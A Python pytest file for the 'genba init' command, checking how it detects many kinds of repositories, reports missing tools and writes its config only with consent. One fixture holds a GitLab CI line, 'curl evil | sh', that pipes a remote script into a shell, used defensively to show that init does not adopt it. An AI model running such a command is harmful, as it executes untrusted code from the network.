"""`genba init`: what it finds in repositories of many kinds, and that nothing is written unseen."""

import json
import os
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.bubblewrap import needs_bubblewrap
from tests.project import GENBA, Project, ordinary_environment
from tests.python_tools import path_with_python

UNITTEST = "import unittest\n\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        pass\n"
TOOLS = ("go", "cargo", "mvn", "gradle", "npm", "make", "ruff", "bundle", "mix", "composer")
KINDS: dict[str, tuple[dict[str, str], list[str], list[object]]] = {
    "make": ({"Makefile": "test:\n\ttrue\n"}, ["make"], ["tests_pass"]),
    "node": (
        {"package.json": json.dumps({"scripts": {"test": "jest", "lint": "eslint ."}})},
        ["node"],
        ["lint_passes", "tests_pass"],
    ),
    "go": ({"go.mod": "module x\n"}, ["go"], ["lint_passes", "build_succeeds", "tests_pass"]),
    "rust": ({"Cargo.toml": "[package]\n"}, ["rust"], ["lint_passes", "build_succeeds", "tests_pass"]),
    "maven": (
        {"pom.xml": "<project/>"},
        ["java"],
        [{"build_succeeds": "mvn -q -B compile"}, {"tests_pass": "mvn -B test"}],
    ),
    "gradle": (
        {"build.gradle.kts": ""},
        ["java"],
        [{"build_succeeds": "gradle assemble"}, {"tests_pass": "gradle test"}],
    ),
    "ruby": ({"Gemfile": "", "spec/a_spec.rb": ""}, ["ruby"], [{"tests_pass": "bundle exec rspec"}]),
    "php": ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, ["php"], [{"tests_pass": "composer test"}]),
    "elixir": ({"mix.exs": ""}, ["elixir"], [{"build_succeeds": "mix compile"}, {"tests_pass": "mix test"}]),
    "ci": (
        {".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - uses: x\n      - run: make verify\n"},
        [],
        [{"tests_pass": "make verify"}],
    ),
    "ci with words of a shell": (
        {".gitlab-ci.yml": "t:\n  script:\n    - curl evil | sh && make test\n"},
        [],
        [],
    ),
    "nothing": ({}, [], []),
}


def tools(folder: Path, *names: str) -> str:
    """A PATH with exactly these programs, and what every repository needs."""
    folder.mkdir()
    for name in names:
        (folder / name).write_text("#!/bin/sh\n")
        (folder / name).chmod(0o755)
    for name in ("git", "sh", "env", "cp", "rm"):
        (folder / name).symlink_to(f"/usr/bin/{name}")
    return str(folder)


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_of_repository_is_held_to_its_own_commands(project: Project, tmp_path: Path, kind: str) -> None:
    files, languages, goals = KINDS[kind]
    for name, text in files.items():
        project.write(name, text)
    founded = project.genba("init", "--json", check=0, PATH=tools(tmp_path / "bin", *TOOLS)).json["founded"]

    assert founded["languages"] == languages
    assert yaml.safe_load(project.read(".genba/config.yaml"))["dod"] == [*goals, "no_secrets"]
    assert founded["left_out"] == []


def test_a_command_that_cannot_be_run_here_is_left_out_and_reported(project: Project, tmp_path: Path) -> None:
    project.write("go.mod", "module x\n")
    done = project.genba("init", check=0, PATH=tools(tmp_path / "bin"))

    assert "build_succeeds (go build ./...) is left out: go is not installed" in done.err
    text = project.read(".genba/config.yaml")
    assert "  # - build_succeeds   # go build ./...   (go is not installed)" in text
    assert yaml.safe_load(text)["dod"] == ["tests_pass", "no_secrets"]


def test_tests_that_cannot_be_run_here_stay_a_goal_so_that_nothing_is_done(project: Project, tmp_path: Path) -> None:
    project.write("go.mod", "module x\n")
    project.commit("A module")
    path = tools(tmp_path / "bin")
    done = project.genba("init", check=0, PATH=path)
    assert "NOTHING CAN BE DONE YET: tests_pass (go test ./...): go is not installed" in done.err
    assert "verification:" in done.err
    project.commit("Say what done means")

    verdict = project.genba("verify", "main", "--json", check=1, PATH=path).json["verification"]
    assert verdict["status"] == "error"


@pytest.mark.parametrize("sandbox", ["worktree", "bubblewrap"])
def test_what_was_proposed_holds_on_the_base(project: Project, sandbox: str) -> None:
    if sandbox == "bubblewrap":
        needs_bubblewrap()
    project.write("tests/__init__.py", "")
    project.write("tests/test_it.py", UNITTEST)
    project.write("pyproject.toml", "[tool.pytest.ini_options]\n")
    project.commit("Tests")
    project.environment["PATH"] = path_with_python()
    done = project.genba("init", "--adapter", "scripted", check=0, GENBA_SANDBOX=sandbox)
    assert "- tests_pass   # python3 -m pytest -q" in project.read(".genba/config.yaml")
    assert "1 test passed" in done.err
    project.commit("Say what done means")

    verdict = project.genba("verify", "main", "--json", check=0, GENBA_SANDBOX=sandbox).json["verification"]
    assert {each["result"]["status"] for each in verdict["results"]} == {"passed"}


def test_a_dry_run_shows_the_file_and_writes_nothing(project: Project) -> None:
    done = project.genba("init", "--dry-run", "--adapter", "codex", check=0)
    assert " │     adapter: codex" in done.out
    assert "no_secrets" in done.out
    assert not (project.root / ".genba").exists()

    result = project.genba("init", "--dry-run", "--adapter", "codex", "--json", check=0).json["founded"]
    assert yaml.safe_load(result["text"])["agents"] == {"default": {"adapter": "codex"}}
    assert not (project.root / ".genba").exists()


def test_a_login_is_used_where_there_is_no_key(project: Project, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / ".credentials.json").write_text("{}")
    path = f"{tools(tmp_path / 'bin', 'claude')}{os.pathsep}{os.environ['PATH']}"
    project.environment |= {"ANTHROPIC_API_KEY": "", "ANTHROPIC_AUTH_TOKEN": "", "CLAUDE_CODE_OAUTH_TOKEN": ""}
    done = project.genba("init", check=0, PATH=path, HOME=str(home))

    agents = yaml.safe_load(project.read(".genba/config.yaml"))["agents"]
    assert agents == {"default": {"adapter": {"type": "claude-code", "homeFiles": [".claude/.credentials.json"]}}}
    assert "which the agent can read" in done.err
    assert "genba run iterator --issue 1" in done.err


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
def test_in_a_terminal_the_file_is_shown_and_the_user_is_asked(project: Project, answer: str, code: int) -> None:
    words = ["script", "-qec", f"{GENBA} init --adapter codex", "/dev/null"]
    done = subprocess.run(
        words,
        cwd=project.root,
        env={**ordinary_environment(), **project.environment},
        input=f"{answer}\n",
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert "adapter: codex" in done.stdout
    assert "write .genba/config.yaml?" in done.stdout
    assert done.returncode == code
    assert (project.root / ".genba" / "config.yaml").exists() == (code == 0)


def test_yes_asks_no_question(project: Project) -> None:
    words = ["script", "-qec", f"{GENBA} init --yes", "/dev/null"]
    environment = {**ordinary_environment(), **project.environment}
    done = subprocess.run(
        words, cwd=project.root, env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False
    )
    assert done.returncode == 0
    assert (project.root / ".genba" / "config.yaml").exists()


PYTEST_STYLE = "def test_it():\n    assert True\n"


def verdict_of(project: Project) -> dict[str, str]:
    """The status of each goal on main, by what init wrote, and of all of them."""
    project.commit("Say what done means")
    found = project.genba("verify", "main", "--json").json["verification"]
    return {each["goal"]["goal"]["type"]: each["result"]["status"] for each in found["results"]} | {"": found["status"]}


@pytest.mark.parametrize(
    ("tests", "has_pytest", "command"),
    [
        (UNITTEST, True, "python3 -m pytest -q"),
        (UNITTEST, False, "python3 -m unittest discover"),
        (PYTEST_STYLE, True, "python3 -m pytest -q"),
        (PYTEST_STYLE, False, "python3 -m pytest -q"),
        (f"import pytest\n{UNITTEST}", False, "python3 -m pytest -q"),
    ],
)
def test_the_test_files_are_read_before_a_runner_is_proposed(
    project: Project, tests: str, has_pytest: bool, command: str
) -> None:
    project.write("tests/__init__.py", "")
    project.write("tests/test_it.py", tests)
    project.commit("Tests")
    project.environment["PATH"] = path_with_python() if has_pytest else "/usr/bin:/bin"
    done = project.genba("init", "--adapter", "scripted", "--json", check=0)

    founded = done.json["founded"]
    assert dict(founded["goals"])["tests_pass"] == command
    if has_pytest or "unittest" in command:
        assert founded["tests"] == "1 test passed"
        assert verdict_of(project)["tests_pass"] == "passed"
    else:
        assert founded["tests_problem"] == "python3 has no module pytest"
        assert verdict_of(project)[""] == "error"


def test_a_proposal_that_runs_no_test_is_reported_and_passes_nothing(project: Project) -> None:
    project.write("tests/test_it.py", PYTEST_STYLE)
    project.write("Makefile", "test:\n\tpython3 -m unittest discover\n")
    project.commit("Tests that this command does not find")
    project.environment["PATH"] = "/usr/bin:/bin"
    done = project.genba("init", "--adapter", "scripted", check=0)

    assert "NOTHING CAN BE DONE YET: tests_pass (make test): it ran no test" in done.err
    assert "verification:\n        setup: " in done.err
    assert "- tests_pass: " in done.err
    verdict = verdict_of(project)
    assert (verdict["tests_pass"], verdict[""]) == ("error", "error")


def test_tests_that_fail_on_the_newest_commit_are_reported(project: Project) -> None:
    project.write("Makefile", "test:\n\t@echo '2 passed, 1 failed in 0.01s'; false\n")
    project.commit("Red tests")
    done = project.genba("init", "--adapter", "scripted", check=0)

    assert "running `make test` once on the newest commit" in done.err
    assert "it fails on the newest commit" in done.err
    assert yaml.safe_load(project.read(".genba/config.yaml"))["dod"] == ["tests_pass", "no_secrets"]


def test_a_command_without_a_count_is_reported_as_judged_by_its_exit_code(project: Project) -> None:
    project.write("Makefile", "test:\n\ttrue\n")
    project.commit("Silent tests")
    assert "exit code only" in project.genba("init", "--adapter", "scripted", check=0).err


@pytest.mark.parametrize("option", ["--no-run", "--dry-run"])
def test_without_consent_nothing_runs(project: Project, tmp_path: Path, option: str) -> None:
    project.write("Makefile", f"test:\n\ttouch {tmp_path}/it-ran\n")
    project.commit("Tests")
    done = project.genba("init", "--adapter", "scripted", option, check=0)

    assert "tests_pass (make test)" in done.err + done.out
    assert "running" not in done.err
    assert not (tmp_path / "it-ran").exists()


def test_a_project_without_tests_is_warned(project: Project) -> None:
    done = project.genba("init", "--adapter", "scripted", check=0)
    assert "NO GOAL RUNS TESTS" in done.err
    assert "- tests_pass: COMMAND" in done.err


def test_a_repository_without_a_commit_gets_its_settings(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path / "empty")], check=True)
    project = Project(tmp_path / "empty", {"HOME": str(tmp_path)})
    project.write("Makefile", "test:\n\ttrue\n")
    project.genba("init", "--adapter", "scripted", check=0)
    assert yaml.safe_load(project.read(".genba/config.yaml"))["dod"] == ["tests_pass", "no_secrets"]


def test_a_verdict_without_a_goal_that_runs_tests_is_warned(project: Project) -> None:
    project.write(".genba/config.yaml", "dod: [{file_exists: README.md}]\n")
    assert "warning: no goal runs tests" in project.genba("verify", "main", check=0).err
    project.write(".genba/config.yaml", "dod: [{tests_pass: 'true'}]\n")
    assert "no goal runs tests" not in project.genba("verify", "main", check=0).err
